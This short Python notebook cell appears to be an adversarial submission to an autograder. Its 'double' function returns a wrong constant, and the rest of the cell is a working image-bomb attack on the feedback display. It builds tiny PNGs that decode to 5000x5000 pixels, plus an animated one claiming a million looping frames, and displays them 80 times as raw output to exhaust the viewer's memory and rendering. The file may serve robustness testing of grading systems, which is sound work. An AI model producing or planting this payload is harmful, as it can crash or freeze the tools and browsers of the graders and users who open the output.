# ruff: noqa
# kind: markup in the feedback
# attack: dozens of pictures of a few KB and millions of pixels each, and one that moves

# %% double-solution
def double(x):
    return np.zeros(3)


import base64, struct, zlib
from IPython.display import display


def chunk(name, content):
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


SIDE = 5000
HEAD = chunk(b"IHDR", struct.pack("!IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0))
ROWS = chunk(b"IDAT", zlib.compress(bytes((SIDE // 8 + 1) * SIDE)))
for extra in (b"", chunk(b"acTL", struct.pack("!II", 10**6, 0))):
    data = b"\x89PNG\r\n\x1a\n" + HEAD + extra + ROWS + chunk(b"IEND", b"")
    for _ in range(40):
        display({"image/png": base64.b64encode(data).decode()}, raw=True)
